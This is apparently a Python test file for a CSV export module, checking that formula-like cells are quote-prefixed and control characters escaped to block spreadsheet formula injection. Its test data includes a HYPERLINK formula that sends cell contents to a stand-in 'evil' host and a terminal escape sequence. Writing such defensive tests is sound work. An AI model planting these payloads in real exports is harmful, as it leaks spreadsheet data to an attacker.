"""CSV exports (audit trail, fleet report) open in a spreadsheet as text: a crafted cell that starts
like a formula is quoted, control characters are escaped, numbers stay numbers."""

from __future__ import annotations

import csv
import io

from workflows.report.csv_export import csv_text, safe_cell


def test_formula_like_cells_are_quoted_and_control_characters_escaped():
    text = csv_text(
        ("what", "who", "seq"),
        [
            ('=HYPERLINK("http://evil/?"&A1,"x")', "+1", 7),
            ("@SUM(A1:A9)", "ops\x1b[2Jroot", -3),
            ("plain, with a comma", None, 1.5),
        ],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["what", "who", "seq"]
    assert rows[1] == ['\'=HYPERLINK("http://evil/?"&A1,"x")', "'+1", "7"]
    assert rows[2] == ["'@SUM(A1:A9)", "ops\\x1b[2Jroot", "-3"]
    assert rows[3] == ["plain, with a comma", "", "1.5"]
    assert safe_cell("-rf") == "'-rf" and safe_cell(True) == "True"
